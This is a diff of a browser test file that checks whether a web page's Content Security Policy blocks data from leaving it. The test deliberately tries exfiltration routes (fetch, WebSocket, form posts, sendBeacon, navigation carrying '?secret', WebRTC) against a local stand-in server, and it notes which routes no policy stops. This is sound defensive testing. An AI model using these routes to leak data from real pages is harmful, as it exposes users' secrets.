@@ -1,17 +1,16 @@
-// What the page must not do: connect, store, remember. In both of its forms.
+// What the page must not do: connect, store, remember; and what its policy stops of that, and what it does not. In both forms.
 
 import assert from "node:assert/strict";
-import { readFile } from "node:fs/promises";
+import { readFile, readdir } from "node:fs/promises";
 import { after, test } from "node:test";
 import { fileURLToPath } from "node:url";
 
-import { fleet, oneDevice, open, serveSite, showTab, singleFileAddress, start, tokens } from "./browser.mjs";
+import { fleet, launch, oneDevice, open, showTab, singleFileAddress, start, tokens } from "./browser.mjs";
 import { DATA, EXAMPLE, GROUP_KEY } from "./device_keys.mjs";
+import { startElsewhere, until } from "./elsewhere.mjs";
+import { PAGES, REFUSED, REFUSED_CODE, REFUSED_FRAMES, REFUSED_WORKERS, take, WEB_RTC } from "./ways_out.mjs";
 
 const { browser, site } = await start(after);
-// Another origin than the page's.
-const elsewhere = await serveSite();
-after(() => elsewhere.close());
 const OUTPUTS = [["folder", site.address], ["single file", singleFileAddress]];
 
 /** Every task of the page once. */
@@ -44,6 +43,19 @@ async function work(page) {
   await sas.getByRole("textbox", { name: "SAS token" }).fill(token);
   await sas.getByLabel("Device key to check it with", { exact: true }).fill(EXAMPLE.deviceKey);
   await sas.getByText(/Right: made with this key/).waitFor();
+}
+
+/** The script of the page, with the worker's in it. */
+async function scriptOf(output) {
+  const built = new URL("../dist/", import.meta.url);
+  if (output === "single file") {
+    const html = await readFile(new URL("dps-symkey-tool.html", built), "utf8");
+    return /<script type="module">([^]*)<\/script>/.exec(html)[1];
+  }
+  const assets = new URL("site/assets/", built);
+  const [file, ...others] = (await readdir(assets)).filter((file) => file.endsWith(".js"));
+  assert.deepEqual(others, []);
+  return readFile(new URL(file, assets), "utf8");
 }
 
 const noPicker = () => void delete globalThis.showSaveFilePicker;
@@ -79,63 +91,75 @@ for (const [output, address] of OUTPUTS) {
     await context.close();
   });
 
-  test(`${output}: whoever tries to connect is refused, in the page and in a worker`, async () => {
-    const { page, context, violations } = await open(browser, address);
-    const target = new URL("stolen", elsewhere.address).href;
-    const results = await page.evaluate(async (target) => {
-      const settled = (promise) => promise.then(() => "done", () => "refused");
-      const event = (thing) =>
-        new Promise((resolve) => {
-          thing.onload = thing.onopen = () => resolve("done");
-          thing.onerror = () => resolve("refused");
+  test(`${output}: what the policy refuses, in the page and in a worker`, async (context) => {
+    const elsewhere = await startElsewhere();
+    context.after(elsewhere.close);
+    const { page, violations, ...opened } = await open(browser, address);
+    const server = new URL(elsewhere.address).origin;
+    for (const [ways, blocked] of [
+      [REFUSED, (name) => new URL(name, elsewhere.address).href],
+      [REFUSED_FRAMES, () => server],
+      [REFUSED_CODE, (name) => name],
+    ]) {
+      for (const [name, [directive, way]] of Object.entries(ways)) {
+        const known = (await violations()).length;
+        const target = new URL(name, elsewhere.address).href;
+        await take(page, way, target);
+        await page.waitForFunction((known) => globalThis.violations.length > known, known).catch((error) => {
+          throw new Error(`${name} is not refused`, { cause: error });
         });
-      const request = new XMLHttpRequest();
-      request.open("GET", target);
-      const sent = event(request);
-      request.send();
-      const image = new Image();
-      const loaded = event(image);
-      image.src = target;
-      const script = Object.assign(document.createElement("script"), { src: target });
-      const ran = event(script);
-      document.head.append(script);
-      const source = `fetch(${JSON.stringify(target)}).then(() => postMessage("done"), () => postMessage("refused"))`;
-      const worker = new Worker(URL.createObjectURL(new Blob([source])));
-      const answered = new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data)));
-      const inline = document.createElement("script");
-      inline.textContent = "globalThis.ran = true";
-      document.head.append(inline);
-      const evaluated = () => {
-        try {
-          return new Function("return 1")();
-        } catch {
-          return "refused";
-        }
-      };
-      const form = Object.assign(document.createElement("form"), { action: target, method: "post" });
-      document.body.append(form);
-      form.submit();
-      navigator.sendBeacon(target, "x");
-      return {
-        fetch: await settled(fetch(target)),
-        request: await sent,
-        socket: await event(new WebSocket(target.replace("http", "ws"))),
-        image: await loaded,
-        script: await ran,
-        worker: await answered,
-        inline: globalThis.ran ?? "refused",
-        eval: evaluated(),
-      };
-    }, target);
-    for (const [way, result] of Object.entries(results)) {
-      assert.equal(result, "refused", way);
+        const [violation] = (await violations()).slice(known);
+        assert.equal(violation.replace(/(ws|https):\/\//, "http://"), `${directive}: ${blocked(name)}`, name);
+      }
     }
-    const refused = (await violations()).join("\n");
-    for (const directive of ["connect-src", "img-src", "script-src-elem", "form-action"]) {
-      assert.match(refused, new RegExp(`^${directive}: `, "m"));
+    for (const [name, way] of Object.entries(REFUSED_WORKERS)) {
+      assert.equal(await take(page, way, new URL(name, elsewhere.address).href), "refused", name);
     }
-    assert.deepEqual(elsewhere.requests, [], "nothing came to the other server");
-    await context.close();
+    assert.equal(await page.evaluate(() => globalThis.ran), undefined, "no code of others ran");
+    assert.equal(page.url(), address.concat("#"), "the page is still there");
+    assert.deepEqual(elsewhere.requests, [], "nothing was asked of the other server");
+    await opened.context.close();
+  });
+
+  test(`${output}: what no policy stops`, async (context) => {
+    const elsewhere = await startElsewhere();
+    context.after(elsewhere.close);
+    // One that ends as a whole: a page that is on its way to another cannot be counted on to close.
+    const browser = await launch();
+    context.after(() => browser.close());
+    for (const [name, way] of Object.entries(PAGES)) {
+      const { page } = await open(browser, address);
+            await take(page, way, new URL(`${name}?secret`, elsewhere.address).href);
+      await until(() => elsewhere.requests.includes(`/${encodeURI(name)}?secret`), name);
+    }
+    for (const [name, way] of Object.entries(WEB_RTC)) {
+      const { page } = await open(browser, address);
+      const seen = () => elsewhere.packets() + elsewhere.connections();
+      const before = seen();
+      await take(page, way, { address: elsewhere.address, udpPort: elsewhere.udpPort });
+      await until(() => seen() > before, name);
+    }
+    // Refused, but only after the browser has looked the server up and connected to it.
+    for (const [, way] of [REFUSED_FRAMES.frame, REFUSED.form]) {
+      const { page } = await open(browser, address);
+      const before = elsewhere.connections();
+      await take(page, way, new URL("refused", elsewhere.address).href);
+      await until(() => elsewhere.connections() > before, `${way}`);
+    }
+    assert.ok(!elsewhere.requests.includes("/refused"));
+    const { page } = await open(browser, address);
+    const said = await page.locator("body").innerText();
+    assert.ok(said.includes("No policy stops a script that opens another page or uses WebRTC"));
+    assert.doesNotMatch(said, /every connection/);
+  });
+
+  test(`${output}: the page's own script has none of the ways out`, async () => {
+    const script = await scriptOf(output);
+    const ways =
+      /\b(fetch|open|import|importScripts)\(|XMLHttpRequest|WebSocket|EventSource|WebTransport|sendBeacon|RTCPeerConnection|http-equiv|cookie|localStorage|sessionStorage|indexedDB/g;
+    assert.deepEqual(script.match(ways), null);
+    // The worker's own address, which is taken back.
+    assert.deepEqual(script.match(/.{16}\blocation\b(\.\w+)*/g), ["eObjectURL(self.location.href"]);
   });
 
   test(`${output}: the policy stands in the page, before anything that it is for`, async () => {
